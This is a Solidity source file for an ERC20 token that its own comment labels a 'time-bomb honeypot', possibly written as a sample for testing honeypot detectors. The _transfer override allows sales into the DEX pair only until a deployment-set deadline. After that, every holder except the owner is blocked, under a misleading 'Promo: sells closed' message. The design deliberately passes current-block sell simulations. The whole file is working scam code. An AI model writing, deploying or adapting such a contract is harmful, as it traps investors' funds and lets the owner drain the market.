// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title Time-bomb honeypot: sells into the pair work until a deadline set
/// at deployment, then revert for everyone but the owner. Until then every
/// simulation at the current block passes.
contract TimeBombToken is ERC20, Ownable {
    address public immutable pair;
    uint256 public immutable promoEnds;

    constructor(address router, uint256 supply, uint256 promoEnds_) ERC20("Time Bomb", "TBOMB") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        promoEnds = promoEnds_;
        _mint(msg.sender, supply);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pair || from == owner() || block.timestamp <= promoEnds, "Promo: sells closed");
        _move(from, to, value);
    }
}
